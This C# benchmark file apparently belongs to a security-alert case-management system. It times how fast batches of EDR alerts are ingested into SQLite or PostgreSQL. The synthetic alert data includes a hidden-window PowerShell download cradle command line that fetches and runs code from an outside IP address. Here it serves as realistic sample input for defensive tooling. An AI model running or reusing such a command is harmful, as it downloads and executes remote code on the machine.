using System.Globalization;
using BenchmarkDotNet.Attributes;
using Npgsql;
using Vigil.Domain;
using Vigil.Domain.Alerts;
using Vigil.Domain.Cases;
using Vigil.Domain.Entities;
using Vigil.Domain.Ledger;
using Vigil.Pipeline.Ports;
using Vigil.Storage;

namespace Vigil.Bench.Storage;

/// <summary>
/// Batch ingestion straight through the store: one transaction per 500 new alerts, each alert upserted, given a new
/// case, linked (with two entities) and recorded in its case's ledger — the store's share of the API target of
/// 20,000 alerts/s. Reported per alert (OperationsPerInvoke). PostgreSQL joins when VIGIL_BENCH_POSTGRES names a
/// server (a throwaway database is created there and dropped afterwards).
/// Run: dotnet run -c Release --project bench/Vigil.Bench -- --filter '*AlertBatch*'
/// </summary>
[MemoryDiagnoser]
public class AlertBatchBenchmark
{
    public const int BatchSize = 500;
    private const string PostgresVariable = "VIGIL_BENCH_POSTGRES";

    private static readonly Actor Ingest = Actor.ApiKey("bench");
    private IVigilStore _store = null!;
    private string? _directory;
    private string? _database;
    private int _batch;

    [ParamsSource(nameof(Engines))]
    public string Engine { get; set; } = "sqlite";

    public static IEnumerable<string> Engines() =>
        Environment.GetEnvironmentVariable(PostgresVariable) is null ? ["sqlite"] : ["sqlite", "postgres"];

    [GlobalSetup]
    public async Task SetupAsync()
    {
        StoreLocation location;
        if (Engine == "postgres")
        {
            var server = Environment.GetEnvironmentVariable(PostgresVariable)!;
            _database = "vigil_bench_" + Guid.NewGuid().ToString("N")[..12];
            await ExecuteOnServerAsync(server, $"CREATE DATABASE {_database}");
            location = new StoreLocation { PostgresConnectionString = new NpgsqlConnectionStringBuilder(server) { Database = _database }.ConnectionString };
        }
        else
        {
            _directory = Path.Combine(Path.GetTempPath(), "vigil-bench-" + Guid.NewGuid().ToString("N"));
            location = new StoreLocation { DataDirectory = _directory };
        }

        _store = new StoreFactory().Open(location);
        await _store.MigrateAsync(CancellationToken.None);
    }

    [Benchmark(OperationsPerInvoke = BatchSize)]
    public async Task IngestNewAlertBatch()
    {
        var batch = Interlocked.Increment(ref _batch);
        var now = DateTimeOffset.UtcNow;
        await using var transaction = await _store.BeginAsync(CancellationToken.None);
        for (var i = 0; i < BatchSize; i++)
        {
            var alert = NewAlert(batch, i, now);
            var upsert = await transaction.UpsertAlertAsync(alert, CancellationToken.None);
            var opened = new Case
            {
                Id = Ids.New(Ids.Case, now),
                Title = alert.Title,
                State = CaseState.Normalised,
                SeverityAtOpen = alert.Severity,
                Severity = alert.Severity,
                OpenedAt = now,
                UpdatedAt = now,
                SlaDueAt = now.AddHours(4),
                AlertCount = 1,
            };
            await transaction.InsertCaseAsync(opened, CancellationToken.None);
            await transaction.AttachAlertAsync(
                new CaseAlertLink { CaseId = opened.Id, AlertId = upsert.Alert.Id, OriginCaseId = opened.Id, JoinedAt = now, Reason = "new" },
                upsert.Alert,
                CancellationToken.None);
            await transaction.AppendLedgerAsync(
                opened.Id,
                LedgerKinds.CaseOpened,
                Ingest,
                now,
                string.Concat("{\"alert_id\":\"", alert.Id, "\",\"reason\":\"new\",\"severity\":\"high\"}"),
                CancellationToken.None);
        }

        await transaction.CommitAsync(CancellationToken.None);
    }

    [GlobalCleanup]
    public async Task CleanupAsync()
    {
        await _store.DisposeAsync();
        if (_directory is not null)
        {
            Directory.Delete(_directory, recursive: true);
        }

        if (_database is not null)
        {
            NpgsqlConnection.ClearAllPools();
            await ExecuteOnServerAsync(Environment.GetEnvironmentVariable(PostgresVariable)!, $"DROP DATABASE IF EXISTS {_database} WITH (FORCE)");
        }
    }

    private static Alert NewAlert(int batch, int index, DateTimeOffset now)
    {
        var sourceRef = string.Concat(batch.ToString(CultureInfo.InvariantCulture), "-", index.ToString(CultureInfo.InvariantCulture));
        var host = string.Concat("ws-", (index % 200).ToString(CultureInfo.InvariantCulture));
        return new Alert
        {
            Id = Ids.New(Ids.Alert, now),
            Source = "edr",
            SourceRef = sourceRef,
            Title = "Suspicious PowerShell download cradle",
            Severity = Severity.High,
            OccurredAt = now,
            ReceivedAt = now,
            Fingerprint = AlertFingerprint.Compute("edr", sourceRef),
            RawPayload = string.Concat(
                "{\"id\":\"", sourceRef, "\",\"host\":\"", host,
                "\",\"user\":\"alice\",\"process\":\"powershell.exe\",\"cmdline\":\"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\",\"severity\":\"high\"}"),
            Entities = [Entity.Create(EntityType.Host, host), Entity.Create(EntityType.Ip, "198.51.100.7")],
            Tags = ["attack.t1059.001"],
            FirstSeen = now,
            LastSeen = now,
        };
    }

    private static async Task ExecuteOnServerAsync(string server, string sql)
    {
        await using var connection = new NpgsqlConnection(server);
        await connection.OpenAsync();
        await using var command = new NpgsqlCommand(sql, connection);
        await command.ExecuteNonQueryAsync();
    }
}
